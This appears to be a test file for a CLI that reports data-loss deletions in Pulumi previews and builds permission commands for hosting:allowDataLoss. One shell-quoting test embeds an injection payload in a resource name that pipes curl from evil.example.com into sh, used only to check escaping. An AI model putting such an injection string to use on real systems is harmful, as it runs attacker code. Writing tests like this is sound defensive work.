import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { readModel, type StackReport } from "../../../cli/report/model";
import { malformed } from "../../../harness/well-formed";
import { recorded, report } from "./support";

// The report derives deleted data from the steps of a run: no line of a preview announces a plain delete.

type Json = Record<string, unknown>;
interface Digest extends Json {
  config: Record<string, string>;
  steps: { op: string; urn: string; oldState: Json; detailedDiff?: Json }[];
  diagnostics?: Json[];
}

const folder = mkdtempSync(join(tmpdir(), "losses-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const URN = "urn:pulumi:prod::shop-infra::pulumi-nodejs:dynamic/hosting";
const deletion = (): Digest => JSON.parse(recorded("delete/preview-sames.json"));

async function of(digest: Json, ...args: string[]): Promise<{ stack: StackReport; code: number }> {
  const file = join(folder, "preview.json");
  writeFileSync(file, JSON.stringify(digest, undefined, 4));
  const { out, code } = await report([file, "--json", ...args]);
  const [stack] = readModel(JSON.parse(out), file).stacks;
  if (!stack) throw new Error("no stack");
  return { stack, code };
}

const plain = (text: string): string =>
  text.replace(/<\/?(?:code|b)>/g, "").replace(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)));

/** Returns the text to copy that follows a sentence. */
const blockAfter = (out: string, sentence: string): string | undefined =>
  out.split(sentence)[1]?.match(/^[^\n]*\n>\s+`{3,}sh\n>\s+(.*)\n>\s+`{3,}/)?.[1];

const needsOf = ({ alarms }: StackReport): string[] =>
  alarms.flatMap((one) => (one.alarm === "data loss" ? [`${one.name}: ${one.needs ?? "permitted"}`] : []));

const storage = (name: string, more: Json = {}) => ({
  op: "delete",
  urn: `${URN}:Storage::${name}`,
  oldState: {
    id: "storage00000000000000001",
    inputs: { applicationUuid: "deletedapplication000001", type: "persistent" },
    outputs: {},
    ...more,
  },
});

test("a report names the permission for a plain deletion of an object with data", async () => {
  const { stack, code } = await of(deletion(), "--fail-on", "data-loss");
  expect(needsOf(stack)).toEqual(["old-uploads: Volume:old-uploads#1004", "orders: ManagedDatabase:orders#manageddatabases00000001"]);
  expect(code).toBe(3);
});

test.each([
  ["Volume:old-uploads#1004", ["old-uploads: permitted", "orders: ManagedDatabase:orders#manageddatabases00000001"]],
  ["Volume:old-uploads, ManagedDatabase:orders", ["old-uploads: permitted", "orders: permitted"]],
  ["Volume:old-uploads#1003", ["old-uploads: Volume:old-uploads#1004", "orders: ManagedDatabase:orders#manageddatabases00000001"]],
])("a report applies hosting:allowDataLoss %s to the objects that it names", async (list, expected) => {
  const digest = deletion();
  digest.config["hosting:allowDataLoss"] = list;
  const { stack } = await of(digest);
  expect([...needsOf(stack)].sort()).toEqual(expected);
});

test("--fail-on not-permitted exits with 3 until every deletion of data is permitted", async () => {
  const digest = deletion();
  expect((await of(digest, "--fail-on", "not-permitted")).code).toBe(3);
  digest.config["hosting:allowDataLoss"] = "Volume:old-uploads,ManagedDatabase:orders";
  expect((await of(digest, "--fail-on", "not-permitted")).code).toBe(0);
});

test("a report names the application's permission for a storage of a deleted application", async () => {
  const digest = deletion();
  digest.steps = digest.steps.filter(({ op }) => op !== "delete");
  digest.steps.push(storage("data"));
  expect(needsOf((await of(digest)).stack)).toEqual(["data: Storage:data#storage00000000000000001"]);
  for (const step of digest.steps) if (step.urn.endsWith(":Application::web")) step.op = "delete";
  expect(needsOf((await of(digest)).stack).sort()).toEqual([
    "data: Application:web#deletedapplication000001",
    "web: Application:web#deletedapplication000001",
  ]);
  digest.config["hosting:allowDataLoss"] = "Application:web";
  expect(needsOf((await of(digest)).stack).sort()).toEqual(["data: permitted", "web: permitted"]);
});

test("a report shows no loss of data for retainOnDelete, or for a file whose content is in the program", async () => {
  const digest = deletion();
  digest.steps = digest.steps.filter(({ op }) => op !== "delete");
  digest.steps.push(storage("kept", { retainOnDelete: true }), storage("file", { inputs: { type: "file", content: "a" } }));
  expect(needsOf((await of(digest)).stack)).toEqual([]);
});

test.each([
  ["deletes data: 50 GB volume with its files and 7 backups; needs hosting:allowDataLoss Volume:data#1003", "Volume:data#1003"],
  ["deletes data: 50 GB volume with its files and 7 backups", undefined],
  // The beginning of the line in release 0.2.
  ["loses: 50 GB volume with its files and 7 backups", undefined],
])("a report prefers the provider's line about a replacement to the step: %s", async (line, needs) => {
  const digest = deletion();
  for (const step of digest.steps) if (step.urn.endsWith(":Volume::data")) step.op = "replace";
  digest.diagnostics = [...(digest.diagnostics ?? []), { severity: "warning", urn: `${URN}:Volume::data`, message: `data: ${line}\n` }];
  const { stack } = await of(digest);
  expect(stack.alarms).toContainEqual({
    alarm: "data loss",
    op: "replace",
    name: "data",
    kind: "Volume",
    noun: "volume",
    what: "50 GB volume with its files and 7 backups",
    ...(needs === undefined ? {} : { needs }),
  });
});

test("a report of all resources names entries of hosting:allowDataLoss that match no resource", async () => {
  const digest = deletion();
  digest.config["hosting:allowDataLoss"] = "Volume:data#1003,Volume:data#1999,Volume:gone,Application:web,VolumeRestore:back#1/b2";
  const warnings = ({ lines }: StackReport) => lines.filter(({ text }) => text.includes("allowDataLoss")).map(({ text }) => text);
  expect(warnings((await of(digest)).stack)).toEqual(
    ["Volume:data#1999", "Volume:gone", "VolumeRestore:back#1/b2"].map(
      (entry) => `hosting:allowDataLoss contains ${entry}, which matches no resource of this stack. Remove the entry.`,
    ),
  );
  digest.steps = digest.steps.filter(({ op }) => op !== "same");
  expect(warnings((await of(digest)).stack)).toEqual([]);
});

test("a report shows a refusal of the data gate as a missing permission, not as a loss of data", async () => {
  const refusal =
    "deleting Volume \"old-uploads\" (id 1004) would delete data: 20 GB volume with its files and backups. It was not deleted and stays in the state; objects that the engine deleted earlier in this run are gone. To delete it: HOSTING_ALLOW_DATA_LOSS='Volume:old-uploads#1004' pulumi destroy. To keep it without Pulumi: pulumi state delete 'urn'.";
  const urn = `${URN}:Volume::old-uploads`;
  const state = { id: "1004", inputs: { sizeGb: 20 }, outputs: {} };
  const events = [
    { resourcePreEvent: { metadata: { op: "delete", urn, old: state } } },
    { diagnosticEvent: { urn, severity: "error", message: refusal } },
    { resOpFailedEvent: { metadata: { op: "delete", urn, old: state } } },
    { summaryEvent: { resourceChanges: {}, result: "failed" } },
  ];
  const file = join(folder, "destroy.jsonl");
  writeFileSync(file, events.map((event, sequence) => JSON.stringify({ sequence, timestamp: 1, ...event })).join("\n"));
  const { out } = await report([file, "--json"]);
  expect(readModel(JSON.parse(out), file).stacks[0]?.alarms).toEqual([
    {
      alarm: "not permitted",
      name: "old-uploads",
      amount: 'deleting Volume "old-uploads" (id 1004) would delete data: 20 GB volume with its files and backups',
      howToPermit: "HOSTING_ALLOW_DATA_LOSS='Volume:old-uploads#1004' pulumi destroy",
      permission: { by: "variable", entries: ["Volume:old-uploads#1004"] },
    },
  ]);
});

describe("the command that permits losses of data", () => {
  const textOf = async (digest: Json, ...args: string[]) => {
    const file = join(folder, "preview.json");
    writeFileSync(file, JSON.stringify(digest, undefined, 4));
    return plain((await report([file, ...args])).out);
  };
  const BOTH = "Volume:old-uploads#1004,ManagedDatabase:orders#manageddatabases00000001";

  test("the caution says once that `up` will stop, and contains one command", async () => {
    const out = await textOf(deletion());
    expect(out.match(/will stop/g)).toHaveLength(1);
    expect(out).toContain("> `up` will stop: 2 losses of data are not permitted yet. To permit them, run this command:\n");
    expect(blockAfter(out, "run this command:")).toBe(`pulumi config set hosting:allowDataLoss '${BOTH}'`);
  });

  test("the command keeps the present entries that match a resource, and the caution says so", async () => {
    const digest = deletion();
    digest.config["hosting:allowDataLoss"] = "Volume:data#1003,Volume:gone";
    const out = await textOf(digest);
    expect(blockAfter(out, "It keeps the entry that the list has already.")).toBe(
      `pulumi config set hosting:allowDataLoss 'Volume:data#1003,${BOTH}'`,
    );
  });

  test("the command without values contains no present entries, and the caution says that it replaces them", async () => {
    const digest = deletion();
    digest.config["hosting:allowDataLoss"] = "Volume:data#1003,Volume:data";
    const out = await textOf(digest, "--no-values");
    expect(blockAfter(out, "It replaces the present list, whose 2 entries are not shown here. Add those that you still need.")).toBe(
      "pulumi config set hosting:allowDataLoss 'Volume:old-uploads,ManagedDatabase:orders'",
    );
    expect(out).not.toMatch(/100[34]/);
  });

  test("the command quotes names for a shell, and is not shortened", async () => {
    const digest = deletion();
    const name = `x'; curl evil.example.com | sh; '${"`".repeat(4)}${"y".repeat(400)}`;
    for (const step of digest.steps) step.urn = step.urn.replace(":Volume::old-uploads", `:Volume::${name}`);
    const file = join(folder, "preview.json");
    writeFileSync(file, JSON.stringify(digest));
    const { out } = await report([file]);
    expect(blockAfter(out, "run this command:")).toBe(
      `pulumi config set hosting:allowDataLoss 'ManagedDatabase:orders#manageddatabases00000001,Volume:${name.replaceAll("'", `'\\''`)}#1004'`,
    );
    expect(malformed(out, { maxBytes: 60_000, links: [] })).toEqual([]);
  });

  test("the command of each stack selects its stack", async () => {
    const file = join(folder, "prod.json");
    writeFileSync(file, JSON.stringify(deletion()));
    const other = join(folder, "dev.json");
    writeFileSync(other, JSON.stringify(deletion()).replaceAll("urn:pulumi:prod::", "urn:pulumi:dev::"));
    const out = plain((await report([file, other])).out);
    expect(out.match(/will stop/g)).toHaveLength(1);
    for (const stack of ["dev", "prod"])
      expect(out).toContain(`> - 2 losses of data in ${stack} are not permitted yet. To permit them, run this command:\n`);
    expect(out).toContain(`pulumi config set hosting:allowDataLoss '${BOTH}' --stack dev\n`);
  });

  test("the caution names the stacks of the losses that it does not list", async () => {
    const args = ["dev", "eu", "prod", "us"].map((stack) => {
      const file = join(folder, `${stack}.json`);
      writeFileSync(file, JSON.stringify(deletion()).replaceAll("urn:pulumi:prod::", `urn:pulumi:${stack}::`));
      return file;
    });
    const out = plain((await report(args)).out);
    expect(out).toContain("> - and 2 more in us\n");
    expect(out).toContain("2 losses of data in us are not permitted yet.");
  });

  test("the command is left out if it is too long for the comment", async () => {
    const digest = deletion();
    const [first] = digest.steps.filter(({ urn }) => urn.endsWith(":Volume::old-uploads"));
    for (let n = 0; n < 40; n++) digest.steps.push({ ...(first as Digest["steps"][0]), urn: `${URN}:Volume::volume-${n}` });
    const short = await textOf(digest, "--max-bytes", "6000");
    expect(short).not.toContain("pulumi config set");
    expect(short).toContain("The list of 42 permissions is too long for this comment.");
    expect(blockAfter(await textOf(digest), "run this command:")).toContain("Volume:volume-39#1004");
  });

  test("the command of several refusals contains all their entries", async () => {
    const refused = (name: string, id: string) =>
      `deleting Volume "${name}" (id ${id}) would delete data: its files. It was not deleted and stays in the state. To delete it: pulumi config set hosting:allowDataLoss 'Volume:old#1,Volume:${name}#${id}'.`;
    const events = ["a", "b"].flatMap((name, n) => [
      { diagnosticEvent: { urn: `${URN}:Volume::${name}`, severity: "error", message: refused(name, `${n + 2}`) } },
      { resOpFailedEvent: { metadata: { op: "delete", urn: `${URN}:Volume::${name}`, old: { id: `${n + 2}`, inputs: {}, outputs: {} } } } },
    ]);
    const file = join(folder, "up.jsonl");
    writeFileSync(
      file,
      [...events, { summaryEvent: { resourceChanges: {}, result: "failed" } }]
        .map((event, sequence) => JSON.stringify({ sequence, timestamp: 1, ...event }))
        .join("\n"),
    );
    const out = plain((await report([file])).out);
    expect(out.match(/Stopped:/g)).toHaveLength(1);
    expect(blockAfter(out, "To permit them, run this command:")).toBe(
      "pulumi config set hosting:allowDataLoss 'Volume:old#1,Volume:a#2,Volume:b#3'",
    );
  });
});

describe("permissions in a pipeline", () => {
  const run = async (digest: Json, environment: Record<string, string>, ...args: string[]) => {
    const file = join(folder, "preview.json");
    writeFileSync(file, JSON.stringify(digest, undefined, 4));
    const { out } = await report([file, ...args], { environment });
    return { out: plain(out), file };
  };

  test("the caution names the variable of the pipeline, and says that destroy reads only the variable", async () => {
    const { out } = await run(deletion(), { CI: "true" });
    const sentence =
      "To permit data loss in this pipeline, you can set the variable HOSTING_ALLOW_DATA_LOSS instead. It takes the same list as `hosting:allowDataLoss`, whose list then does not count. `pulumi destroy` reads only the variable.";
    expect(out.split(sentence)).toHaveLength(2);
    expect(out).toContain("pulumi config set hosting:allowDataLoss 'Volume:old-uploads#1004,");
    expect((await run(deletion(), {})).out).not.toContain("HOSTING_ALLOW_DATA_LOSS");
    expect((await run(deletion(), { CI: "true" }, "--no-values")).out).toContain(sentence);
  });

  test("the variable of several stacks has one value, which contains the entries of all of them", async () => {
    const args = ["dev", "prod"].map((stack) => {
      const digest = deletion();
      for (const { urn, oldState } of digest.steps) if (urn.endsWith(":Volume::old-uploads")) oldState.id = `${stack}-1`;
      const file = join(folder, `${stack}.json`);
      writeFileSync(file, JSON.stringify(digest).replaceAll("urn:pulumi:prod::", `urn:pulumi:${stack}::`));
      return file;
    });
    const list = "ManagedDatabase:orders,Volume:data#1003";
    const out = plain((await report(args, { environment: { CI: "true", HOSTING_ALLOW_DATA_LOSS: list } })).out);
    expect(blockAfter(out, "set the variable HOSTING_ALLOW_DATA_LOSS of this pipeline to this value.")).toBe(
      `${list},Volume:old-uploads#dev-1,Volume:old-uploads#prod-1`,
    );
    expect(out.match(/HOSTING_ALLOW_DATA_LOSS/g)).toHaveLength(1);
    expect(plain((await report(args, { environment: { CI: "true" } })).out)).toContain(
      "It takes the lists of all stacks together, and the lists of the configuration then do not count.",
    );
  });

  test("the caution names the variable in a job that posts models of other jobs", async () => {
    const { out: model } = await run(deletion(), { CI: "true" }, "--json");
    const file = join(folder, "model.json");
    writeFileSync(file, model);
    expect((await report([file], { environment: { CI: "true" } })).out).toContain("It takes the same list");
  });

  test("the report applies the variable instead of the setting", async () => {
    const digest = deletion();
    digest.config["hosting:allowDataLoss"] = "ManagedDatabase:orders";
    const { out } = await run(digest, { CI: "true", HOSTING_ALLOW_DATA_LOSS: "Volume:old-uploads#1004" });
    expect(out).toContain("is deleted: managed database with its data (not permitted)");
    expect(out).toContain("is deleted: 20 GB volume with its files and backups\n");
    expect(blockAfter(out, "set the variable HOSTING_ALLOW_DATA_LOSS of this pipeline to this value.")).toBe(
      "Volume:old-uploads#1004,ManagedDatabase:orders#manageddatabases00000001",
    );
    expect(out).not.toContain("To permit data loss in this pipeline");
    expect((await run(deletion(), { CI: "true", HOSTING_ALLOW_DATA_LOSS: "" })).out).toContain("pulumi config set hosting:allowDataLoss");
  });

  test("the caution names only the variable if the program declares no resource of this package any more", async () => {
    const digest = deletion();
    digest.config["hosting:allowDataLoss"] = "Volume:old-uploads,ManagedDatabase:orders";
    digest.steps = digest.steps.filter(({ op, urn }) => op === "delete" || urn.endsWith("pulumi:pulumi:Stack::shop-infra-prod"));
    (digest as Json).changeSummary = { delete: 2 };
    const { out } = await run(digest, {});
    expect(out).toContain("`up` will stop: 2 losses of data are not permitted yet.");
    expect(blockAfter(out, "set this variable in the environment of the command. The setting has no effect here.")).toBe(
      "HOSTING_ALLOW_DATA_LOSS='Volume:old-uploads#1004,ManagedDatabase:orders#manageddatabases00000001'",
    );
  });
});

test("a report of a rehearsal names the permission without an id, and does not say that up will stop", async () => {
  const step = { op: "delete", urn: `${URN}:Volume::data`, old: { id: "7", inputs: { sizeGb: 20 }, outputs: {} } };
  const other = { op: "same", urn: `${URN}:Project::shop`, old: { id: "p", inputs: {}, outputs: {} } };
  const file = join(folder, "rehearsal.json");
  writeFileSync(
    file,
    JSON.stringify({
      rehearsal: true,
      operation: "preview",
      stack: "prod",
      project: "shop",
      ok: true,
      steps: [step, other],
      diagnostics: [],
      summary: { delete: 1 },
    }),
  );
  const out = plain((await report([file])).out);
  expect(out).toContain("Deletes data: data (Volume) is deleted: 20 GB volume with its files and backups");
  expect(out).toContain("To permit the loss of data, add Volume:data with the id that the preview shows to hosting:allowDataLoss.");
  expect(out).not.toContain("will stop");
});
